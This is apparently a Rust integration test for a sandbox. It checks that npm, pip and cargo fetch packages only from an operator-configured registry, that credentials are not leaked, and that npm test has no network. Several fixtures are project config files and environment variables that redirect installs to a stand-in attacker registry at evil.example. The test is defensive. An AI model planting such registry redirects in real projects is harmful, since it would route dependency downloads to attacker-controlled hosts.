//! Package managers with a registry of the operator's own: what the operator has configured is fetched, and nothing
//! that a project says is. A tool that is not installed is not tried, and said so.

#![expect(
    clippy::disallowed_methods,
    clippy::expect_used,
    reason = "tests make servers and directories; the product's rooms do not apply"
)]

#[path = "../network/outside.rs"]
mod outside;
#[path = "../network/scene.rs"]
mod scene;

use std::fs;
use std::path::{Path, PathBuf};
use std::process::{Command, ExitCode};

use libtest_mimic::{Arguments, Failed, Trial};

use outside::Pages;
use scene::{Scene, connections, texts};

struct Case {
    name: &'static str,
    tool: &'static str,
    /// In the operator's home.
    home: &'static [(&'static str, &'static str)],
    project: &'static [(&'static str, &'static str)],
    script: &'static str,
    says: &'static str,
    /// Every connection is this one. Nothing: there is none, or none that was reached.
    reached: Option<&'static str>,
}

const NPMRC: (&str, &str) = (".npmrc", "registry=http://u:secret@packages.example/npm/\n");
const PIP: (&str, &str) = (
    ".config/pip/pip.conf",
    "[global]\nindex-url = http://u:secret@packages.example/simple\ntrusted-host = packages.example\n",
);
const CARGO: (&str, &str) = (
    ".cargo/config.toml",
    "[source.crates-io]\nreplace-with = 'ours'\n[source.ours]\nregistry = 'sparse+http://packages.example/index/'\n",
);
const MANIFEST: (&str, &str) = (
    "Cargo.toml",
    "[package]\nname = \"x\"\nversion = \"0.1.0\"\nedition = \"2021\"\n[dependencies]\ndemo = \"1\"\n",
);
const REACHED: Option<&str> = Some("packages.example:80 reached");

const CASES: &[Case] = &[
    Case {
        name: "npm install",
        tool: "npm",
        home: &[NPMRC],
        project: &[(
            "package.json",
            r#"{"name":"x","version":"1.0.0","dependencies":{"demo":"^1.0.0"}}"#,
        )],
        script: "npm install --no-audit --no-fund 2>&1; node -e 'console.log(require(\"demo\"))'; cat /etc/npmrc",
        says: "from the registry",
        reached: REACHED,
    },
    Case {
        name: "npm install from a registry that the project names",
        tool: "npm",
        home: &[NPMRC],
        project: &[
            ("package.json", r#"{"name":"x","version":"1.0.0","dependencies":{"demo":"^1.0.0"}}"#),
            (".npmrc", "registry=http://evil.example/npm/\nfetch-retries=0\n"),
        ],
        script: "npm install --no-audit --no-fund 2>&1",
        says: "403",
        reached: None,
    },
    Case {
        name: "npm install from a registry that the script names",
        tool: "npm",
        home: &[NPMRC],
        project: &[(
            "package.json",
            r#"{"name":"x","version":"1.0.0","dependencies":{"demo":"^1.0.0"}}"#,
        )],
        script: "npm_config_fetch_retries=0 npm_config_registry=http://evil.example/npm/ npm install 2>&1",
        says: "403 Forbidden - GET http://evil.example/npm/demo",
        reached: None,
    },
    Case {
        name: "npm test has no network",
        tool: "npm",
        home: &[NPMRC],
        project: &[(
            "package.json",
            r#"{"name":"x","version":"1.0.0","scripts":{"test":"echo proxy: $HTTP_PROXY."}}"#,
        )],
        script: "npm test 2>&1",
        says: "proxy: .",
        reached: None,
    },
    Case {
        name: "pip install",
        tool: "pip3",
        home: &[PIP],
        project: &[],
        script: "python3 -m pip install --no-cache-dir --target here demo 2>&1; PYTHONPATH=here python3 -c 'import demo; print(demo.WHERE)'; cat /etc/pip.conf",
        says: "from the index",
        reached: REACHED,
    },
    Case {
        name: "cargo build",
        tool: "cargo",
        home: &[CARGO],
        project: &[MANIFEST, ("src/main.rs", "fn main() { println!(\"{}\", demo::WHERE); }\n")],
        script: "cargo run -q 2>&1",
        says: "from the index",
        reached: REACHED,
    },
    Case {
        name: "cargo build from a registry that the project names",
        tool: "cargo",
        home: &[CARGO],
        project: &[
            MANIFEST,
            ("src/main.rs", "fn main() {}\n"),
            (
                ".cargo/config.toml",
                "[net]\nretry = 0\n[source.crates-io]\nreplace-with = 'evil'\n[source.evil]\nregistry = 'sparse+http://evil.example/index/'\n",
            ),
        ],
        script: "cargo build 2>&1",
        says: "403",
        reached: None,
    },
];

fn main() -> ExitCode {
    libtest_mimic::run(&Arguments::from_args(), trials()).exit_code()
}

fn trials() -> Vec<Trial> {
    let trial = |case: &'static Case| {
        let missing = !is_installed(case.tool);
        Trial::test(case.name, || check(case)).with_ignored_flag(missing)
    };
    CASES.iter().map(trial).collect()
}

fn is_installed(name: &str) -> bool {
    let path = std::env::var_os("PATH").unwrap_or_default();
    std::env::split_paths(&path).any(|folder| folder.join(name).exists())
}

fn check(case: &Case) -> Result<(), Failed> {
    let made = Path::new(env!("CARGO_TARGET_TMPDIR")).join(format!("packages-{}", case.name));
    let pages = pages(&made);
    let _it_is_in_the_build_directory = fs::remove_dir_all(&made);
    let scene = Scene::new(pages, "");
    scene.lay_out(case.project, case.home);
    let outcome = scene.run(case.script);
    let (output, errors) = texts(&outcome);
    let all = connections(&outcome);
    let heard = scene.outside.heard();
    let shown = format!("stdout: {output}\nstderr: {errors}\n{all:?}\n{heard:?}");
    let said = output.contains(case.says) || errors.contains(case.says);
    if !said || output.contains("secret") {
        return Err(shown.into());
    }
    match case.reached {
        Some(reached) => {
            assert!(!all.is_empty() && all.iter().all(|it| it == reached), "{shown}");
        }
        None => assert!(!all.iter().any(|it| it.ends_with("reached")), "{shown}"),
    }
    assert!(!heard.iter().any(|it| it.contains("evil.example")), "{shown}");
    Ok(())
}

/// A registry of each kind with one package.
fn pages(folder: &Path) -> Pages {
    let npm = folder.join("npm");
    write(
        &npm.join("package/package.json"),
        r#"{"name":"demo","version":"1.0.0","main":"index.js"}"#,
    );
    write(&npm.join("package/index.js"), "module.exports = 'from the registry';\n");
    let package = packed(&npm, "package");
    let crates = folder.join("crates");
    write(
        &crates.join("demo-1.0.0/Cargo.toml"),
        "[package]\nname = \"demo\"\nversion = \"1.0.0\"\nedition = \"2021\"\n",
    );
    write(&crates.join("demo-1.0.0/src/lib.rs"), "pub const WHERE: &str = \"from the index\";\n");
    let unit = packed(&crates, "demo-1.0.0");
    write(&folder.join("unit"), &unit);
    let digest = run(Command::new("sha256sum").arg(folder.join("unit")));
    let digest = String::from_utf8_lossy(&digest).split(' ').next().unwrap_or_default().to_owned();
    let packument = r#"{"name":"demo","dist-tags":{"latest":"1.0.0"},"versions":{"1.0.0":{"name":"demo","version":"1.0.0",
        "dist":{"tarball":"http://packages.example/npm/demo/-/demo-1.0.0.tgz"}}}}"#;
    let index = format!(
        r#"{{"name":"demo","vers":"1.0.0","deps":[],"cksum":"{digest}","features":{{}},"yanked":false}}"#
    );
    let all: [(&str, Vec<u8>); 7] = [
        ("/npm/demo", packument.into()),
        ("/npm/demo/-/demo-1.0.0.tgz", package),
        (
            "/simple/demo/",
            b"<a href=\"/files/demo-1.0.0-py3-none-any.whl\">demo-1.0.0-py3-none-any.whl</a>"
                .to_vec(),
        ),
        ("/files/demo-1.0.0-py3-none-any.whl", wheel(folder)),
        (
            "/index/config.json",
            br#"{"dl":"http://packages.example/crates/{crate}-{version}.crate"}"#.to_vec(),
        ),
        ("/index/de/mo/demo", index.into_bytes()),
        ("/crates/demo-1.0.0.crate", unit),
    ];
    all.into_iter().map(|(path, content)| (path.to_owned(), content)).collect()
}

fn wheel(folder: &Path) -> Vec<u8> {
    const MAKE: &str = "import sys, zipfile\nz = zipfile.ZipFile(sys.argv[1], 'w')\n\
        z.writestr('demo.py', 'WHERE = \"from the index\"\\n')\nd = 'demo-1.0.0.dist-info/'\n\
        z.writestr(d + 'METADATA', 'Metadata-Version: 2.1\\nName: demo\\nVersion: 1.0.0\\n')\n\
        z.writestr(d + 'WHEEL', 'Wheel-Version: 1.0\\nGenerator: x\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n')\n\
        z.writestr(d + 'RECORD', '')\nz.close()\n";
    let path: PathBuf = folder.join("demo.whl");
    if !is_installed("python3") {
        return Vec::new();
    }
    run(Command::new("python3").args(["-c", MAKE]).arg(&path));
    fs::read(path).expect("a wheel")
}

fn packed(folder: &Path, name: &str) -> Vec<u8> {
    run(Command::new("tar").arg("-czf").arg("-").arg("-C").arg(folder).arg(name))
}

fn run(command: &mut Command) -> Vec<u8> {
    let output = command.output().expect("a tool of the test");
    assert!(output.status.success(), "{command:?}: {}", String::from_utf8_lossy(&output.stderr));
    output.stdout
}

fn write(path: &Path, content: impl AsRef<[u8]>) {
    fs::create_dir_all(path.parent().expect("a parent")).expect("a directory");
    fs::write(path, content).expect("a file");
}
